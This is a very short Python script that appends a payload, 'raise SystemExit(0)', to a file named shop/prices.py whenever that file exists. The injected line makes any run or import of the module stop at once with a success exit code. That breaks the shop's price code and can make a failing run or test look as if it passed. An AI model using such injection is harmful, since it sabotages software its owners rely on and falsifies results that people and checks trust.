from pathlib import Path

PAYLOAD = '''
raise SystemExit(0)
'''

product = Path("shop/prices.py")
if product.exists():
    product.write_text(product.read_text() + PAYLOAD)
